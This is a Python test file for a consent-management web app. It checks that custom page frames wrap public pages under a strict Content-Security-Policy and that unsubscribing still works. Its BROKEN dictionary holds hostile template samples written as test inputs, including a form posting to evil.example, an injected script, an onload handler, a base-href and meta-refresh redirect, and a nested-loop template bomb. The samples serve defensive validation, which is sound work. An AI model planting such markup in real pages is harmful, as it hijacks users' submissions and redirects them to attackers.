"""A company's own frame stands around the public pages, and never between a person and the way out."""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from nurture.db import consents, contacts
from nurture.services.files.check import check
from nurture.web import create_app
from tests.support.guided import a_guided_nurture
from tests.support.projects import problems_of
from tests.support.running import Running, put_live

FRAME = """\
<!doctype html>
<html lang="en"><head><title>{{ title }}</title>{{ styles }}
<style>header { color: #0b6e4f; background: url(https://cdn.example.org/bg.png) }</style></head>
<body class="public"><header><img src="https://img.example.net/logo.png" alt="{{ workspace.name }}"></header>
<main>{% if offer %}<p class="about">{{ offer.title }}: {{ offer.promise }}</p>{% endif %}{{ body }}</main>
{{ footer }}<p class="whose">{{ workspace.name }}, {{ workspace.postal_address }}, {{ page }}</p></body></html>
"""
BASE, LEAVE = "templates/pages/base.html", "templates/pages/leave.html"


@pytest.fixture
def guided(sqlite_url: str, tmp_path: Path) -> Iterator[Running]:
    running = a_guided_nurture(sqlite_url, tmp_path)
    yield running
    running.nurture.close()


def client_of(running: Running) -> FlaskClient:
    return create_app(running.nurture.settings, running.nurture).test_client()


def framed(running: Running, path: str, text: str) -> FlaskClient:
    running.write(path, text)
    running.publish()
    return client_of(running)


def leave_link(running: Running) -> str:
    running.add()
    running.track("offer.requested", offer="guide")
    running.advance(hours=50)
    return urlsplit(str(running.mails()[-1]["List-Unsubscribe"]).strip("<>")).path


def policy_of(answer: TestResponse) -> dict[str, str]:
    pairs = (part.strip().partition(" ") for part in answer.headers["Content-Security-Policy"].split(";"))
    return {name: value for name, _, value in pairs}


def test_a_frame_for_all_pages_stands_around_the_form_of_an_offer_and_says_what_it_is_about(
    guided: Running,
) -> None:
    page = framed(guided, BASE, FRAME).get("/o/guide")

    assert '<p class="about">The guide: Know in ten minutes</p>' in page.text
    assert "<title>The guide · Tamarack Lane</title>" in page.text
    assert 'name="form-stamp"' in page.text
    assert 'href="/static/offer.css"' in page.text
    assert "Tamarack Lane, 1 Tamarack Lane, Toronto, offer</p>" in page.text
    assert page.text.count("<html") == 1
    assert page.text.count('name="email"') == 1


def test_styles_are_let_through_by_their_hash_and_pictures_by_their_site_and_nothing_else_is(
    guided: Running,
) -> None:
    answer = framed(guided, BASE, FRAME).get("/o/guide")
    css = re.findall(r"<style>(.*?)</style>", answer.text, re.DOTALL)[0]
    policy = policy_of(answer)

    assert policy["style-src"] == f"'self' 'sha256-{b64encode(sha256(css.encode()).digest()).decode()}'"
    assert policy["img-src"] == "'self' data: https://cdn.example.org https://img.example.net"
    assert policy["default-src"] == "'self'"
    assert policy["form-action"] == "'self'"
    assert "unsafe" not in answer.headers["Content-Security-Policy"]


def test_a_page_of_its_own_goes_before_the_one_for_all(guided: Running) -> None:
    link = leave_link(guided)
    guided.write(BASE, FRAME)
    client = framed(guided, LEAVE, FRAME.replace('class="whose"', 'class="leaving"'))

    assert 'class="leaving"' in client.get(link).text
    assert 'class="leaving"' in client.post(link, data={"do": "leave"}).text
    assert 'class="whose"' in client.get("/o/guide").text
    assert 'class="whose"' in client.get("/nowhere").text


def test_pages_for_people_who_log_in_and_the_api_are_never_framed(guided: Running) -> None:
    client = framed(guided, BASE, FRAME)

    for path in ("/admin/log-in", "/admin/nowhere", "/api/v1/nowhere", "/static/nowhere.css"):
        answer = client.get(path)
        assert "whose" not in answer.text
        assert "style-src" not in policy_of(answer)


def test_people_leave_through_a_framed_page_as_through_ours(guided: Running) -> None:
    link = leave_link(guided)
    client = framed(guided, LEAVE, FRAME)

    page = client.get(link).text
    ours = client_of_without_frame(guided, link)
    client.post(link, data={"do": "leave"})

    assert forms_of(page) == forms_of(ours)
    assert withdrawn(guided) == {"nurture"}


def client_of_without_frame(running: Running, link: str) -> str:
    (running.project / LEAVE).unlink()
    running.publish()
    page = client_of(running).get(link).text
    running.write(LEAVE, FRAME)
    running.publish()
    return page


def forms_of(page: str) -> list[str]:
    return re.findall(r"<form.*?</form>", page, re.DOTALL)


BROKEN = {
    "no body": "<html><body>{{ title }}</body></html>",
    "body twice": "<html><body>{{ body }}{{ body }}</body></html>",
    "body in an if": "<html><body>{% if page == 'other' %}{{ body }}{% endif %}</body></html>",
    "body unseen": "<html><body><div hidden>{{ body }}</div></body></html>",
    "body in a closed dialog": "<html><body><dialog>{{ body }}</dialog></body></html>",
    "body that pops over": "<html><body><div popover>{{ body }}</div></body></html>",
    "body that takes no press": "<html><body><div inert>{{ body }}</div></body></html>",
    "body that is switched off": "<html><body><fieldset disabled>{{ body }}</fieldset></body></html>",
    "body as a drawing": "<html><body><svg>{{ body }}</svg></body></html>",
    "body as its own source": "<html><body><xmp>{{ body }}</xmp></body></html>",
    "a telltale page": '<html><head><meta name="Referrer" content="unsafe-url"></head><body>{{ body }}</body></html>',
    "a telltale picture": '<html><body><img src="https://evil.example/x.png" referrerpolicy="unsafe-url" alt="">{{ body }}</body></html>',
    "body in the head": "<html><head>{{ body }}</head><body></body></html>",
    "body in an attribute": '<html><body title="{{ body }}"></body></html>',
    "body in a style": "<html><head><style>{{ body }}</style></head><body></body></html>",
    "an own form": '<html><body><form action="https://evil.example">{{ body }}</form></body></html>',
    "a script": "<html><body>{{ body }}<script>evil()</script></body></html>",
    "a handler": '<html><body onload="evil()">{{ body }}</body></html>',
    "another base": '<html><head><base href="https://evil.example"></head><body>{{ body }}</body></html>',
    "a refresh": '<html><head><meta http-equiv="refresh" content="0;https://evil.example"></head><body>{{ body }}</body></html>',
    "an overlay": '<html><body><p style="position:fixed">x</p>{{ body }}</body></html>',
    "a sheet from elsewhere": '<html><head><link rel="stylesheet" href="https://evil.example/x.css"></head><body>{{ body }}</body></html>',
    "an unknown name": "<html><body>{{ contact.email }}{{ body }}</body></html>",
    "a missing value": "<html><body>{{ workspace.privacy_url }}{{ body }}</body></html>",
    "an offer that is not there": "<html><body>{{ offer.title }}{{ body }}</body></html>",
    "a bomb": "<html><body>{% for a in [1,2,3] %}{% for b in [" + "1," * 99 + "1] %}{% for c in [" + "1," * 99 + "1] %}x{% endfor %}{% endfor %}{% endfor %}{{ body }}</body></html>",
    "half a tag": "<html><body>{{ body }}{% if </body></html>",
}  # fmt: skip


@pytest.mark.parametrize("name", BROKEN)
def test_a_frame_that_cannot_be_shown_is_told_and_cannot_go_live(tmp_path: Path, name: str) -> None:
    problems = problems_of(tmp_path, {LEAVE: BROKEN[name]})

    assert problems
    assert {problem.place.file for problem in problems} == {LEAVE}
    assert check(tmp_path).errors


def test_whatever_frame_is_live_people_can_leave(guided: Running) -> None:
    link = leave_link(guided)
    client = client_of(guided)
    ours = forms_of(client.get(link).text)

    for name, text in BROKEN.items():
        put_live(guided, LEAVE, text)
        page = client.get(link)
        assert page.status_code == 200, name
        assert forms_of(page.text) == ours, name
        assert "evil" not in page.text, name
        assert "style-src" not in policy_of(page), name

        one_click = client.post(link, data={"List-Unsubscribe": "One-Click"})
        assert (one_click.status_code, one_click.mimetype) == (200, "text/plain"), name
        assert withdrawn(guided) == {"nurture"}
        guided.track("consent.granted", purpose="nurture")


def withdrawn(running: Running) -> frozenset[str]:
    with running.nurture.database.read() as tx:
        ana = contacts.by_email(tx, ["ana@example.org"])["ana@example.org"].id
        return consents.withdrawn(tx, [ana]).get(ana, frozenset())


@pytest.mark.parametrize("file", ["pages/leaving.html", "pages/leave.fr.html"])
def test_a_page_that_nobody_reads_is_told(tmp_path: Path, file: str) -> None:
    (problem,) = problems_of(tmp_path, {f"templates/{file}": "<html><body>{{ body }}</body></html>"})

    assert problem.code == "unknown-page"


def test_a_sound_frame_has_no_problems(tmp_path: Path) -> None:
    assert problems_of(tmp_path, {BASE: FRAME, "templates/pages/offer.html": FRAME}) == []
